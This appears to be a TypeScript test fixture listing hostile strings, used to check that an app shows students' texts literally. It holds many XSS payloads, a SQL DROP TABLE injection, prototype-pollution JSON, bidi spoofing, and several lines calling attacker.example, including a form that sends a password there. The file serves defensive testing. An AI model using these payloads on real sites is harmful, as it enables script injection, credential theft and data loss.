/**
 * Texts that try to be more than text. Wherever a student's texts are displayed, each must be displayed literally and do nothing. Shared by the tests
 * of domain, screens and journeys. `text` may be 100,000 characters long.
 */
export const hostileStrings: readonly { name: string; text: string }[] = [
  // Script
  { name: "a script tag", text: "<script>globalThis.hacked = true</script>" },
  { name: "a script tag in capitals with a space", text: "<SCRIPT >globalThis.hacked = true</SCRIPT >" },
  { name: "a script tag inside a script tag", text: "<scr<script>ipt>globalThis.hacked = true</scr</script>ipt>" },
  { name: "a script tag that closes an attribute first", text: `"><script>globalThis.hacked = true</script>` },
  { name: "a script tag that closes a script first", text: "</script><script>globalThis.hacked = true</script>" },
  { name: "a script from elsewhere", text: `<script src="//attacker.example/x.js"></script>` },
  { name: "a script tag left open", text: "<script>globalThis.hacked = true" },
  { name: "a script tag split by a NUL", text: "<scr\u0000ipt>globalThis.hacked = true</scr\u0000ipt>" },
  { name: "a script tag in full-width letters", text: "＜script＞globalThis.hacked = true＜/script＞" },

  // Event handlers
  { name: "an image that fails", text: `<img src=x onerror="globalThis.hacked = true">` },
  { name: "an image without quotes or spaces", text: "<img/src=x/onerror=globalThis.hacked=true>" },
  { name: "a field that takes the focus", text: `<input autofocus onfocus="globalThis.hacked = true">` },
  { name: "a body that loads", text: `<body onload="globalThis.hacked = true">` },
  { name: "a details box that opens", text: `<details open ontoggle="globalThis.hacked = true">x</details>` },
  { name: "a handler that breaks out of an attribute", text: `" onmouseover="globalThis.hacked = true` },
  { name: "the same with single quotes", text: `' onfocus='globalThis.hacked = true' autofocus='` },
  { name: "a video without a source", text: `<video><source onerror="globalThis.hacked = true"></video>` },

  // Addresses
  { name: "a javascript: link", text: `<a href="javascript:globalThis.hacked = true">here</a>` },
  { name: "a javascript: link in markdown", text: "[here](javascript:globalThis.hacked=true)" },
  { name: "a javascript: link hidden by a tab and capitals", text: `<a href="JaVa\tScRiPt:globalThis.hacked = true">here</a>` },
  { name: "a bare javascript: address", text: "javascript:globalThis.hacked=true" },
  { name: "a data: page in a frame", text: `<iframe src="data:text/html,<script>parent.hacked = true</script>"></iframe>` },
  { name: "a frame with its own page", text: `<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>` },
  { name: "an image in markdown that calls home", text: "![x](https://attacker.example/pixel.png)" },
  { name: "a page that takes the student away", text: `<meta http-equiv="refresh" content="0;url=https://attacker.example">` },
  { name: "a base that turns every link", text: `<base href="https://attacker.example/">` },
  {
    name: "a form that sends a password elsewhere",
    text: `<form action="https://attacker.example"><input name=password><button>Log in</button></form>`,
  },

  // SVG, MathML, CSS
  { name: "an SVG that loads", text: `<svg onload="globalThis.hacked = true"></svg>` },
  { name: "an SVG with a script", text: "<svg><script>globalThis.hacked = true</script></svg>" },
  {
    name: "an SVG animation of a link",
    text: `<svg><a><animate attributeName=href values=javascript:globalThis.hacked=true /><text y=20>x</text></a></svg>`,
  },
  { name: "MathML that turns back into HTML", text: `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.hacked = true">` },
  { name: "a style sheet that hides the page", text: "<style>* { display: none !important }</style>" },
  { name: "a style attribute over the whole page", text: `<div style="position:fixed;inset:0;background:url(//attacker.example)">x</div>` },
  { name: "CSS that leaves a declaration", text: "red; } body { display: none } /*" },
  { name: "a CSS expression", text: "width: expression(globalThis.hacked = true)" },

  // Templates and entities
  { name: "a template in double braces", text: "{{constructor.constructor('globalThis.hacked = true')()}}" },
  { name: "a template literal", text: "${globalThis.hacked = true}" },
  { name: "a server template", text: "<%= globalThis.hacked = true %>" },
  { name: "HTML entities", text: "&lt;script&gt;globalThis.hacked = true&lt;/script&gt; &amp; &#60;b&#62;" },
  { name: "an HTML comment left open", text: "<!-- everything after this is gone" },
  { name: "the end of a CDATA section", text: "<![CDATA[x]]><script>globalThis.hacked = true</script>" },
  { name: "an element that swallows the rest", text: "<plaintext><textarea><title><xmp>" },
  { name: "a key that poisons objects", text: `{"__proto__":{"hacked":true},"constructor":{"prototype":{"hacked":true}}}` },
  { name: "the end of a JSON text and of SQL", text: `"]}'); DROP TABLE decks; -- \\` },

  // Incomplete marks
  { name: "marks that cross", text: "**a *b** c* ~~d __e~~ f__" },
  { name: "marks around a tag", text: `**<img src=x onerror="globalThis.hacked = true">**` },
  { name: "a tag cut by marks", text: "<scr**ipt>globalThis.hacked = true</scr**ipt>" },
  { name: "code that is never closed", text: "`<script>globalThis.hacked = true</script>" },
  { name: "marks, 50,000 deep", text: `${"*a ".repeat(16_666)}b${" a*".repeat(16_666)}` },

  // Misleading characters
  { name: "a bidi override", text: "\u202Egpj.exe\u202C <- is this an image?" },
  { name: "bidi isolates left open", text: "\u2066\u2067\u2068 user\u202E\u2066// admin" },
  { name: "right-to-left text with marks", text: "**שלום** עולם، *مرحبا* بالعالم <b>" },
  { name: "zero-width characters between marks", text: "\u200B*\u200Ba\u200B*\u200B \u2060\uFEFF" },
  { name: "a NUL and other control characters", text: "a\u0000b\u0001c\u0007d\u001Be\u007Ff\u0085g" },
  { name: "lone surrogates", text: "\uD83D *\uDE00* \uDC00\uD800" },
  { name: "an emoji family, a flag and a keycap", text: "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 *️⃣ **👍🏽**" },
  { name: "100 accents on one letter", text: `Z${"\u0301\u0327".repeat(50)} *Z\u0301*` },
  { name: "line and paragraph separators", text: "a\u2028globalThis.hacked = true\u2029b\r\nc" },

  // Size
  { name: "100,000 asterisks", text: "*".repeat(100_000) },
  { name: "100,000 characters without a space", text: "<b>".repeat(33_333) + "!" },
];
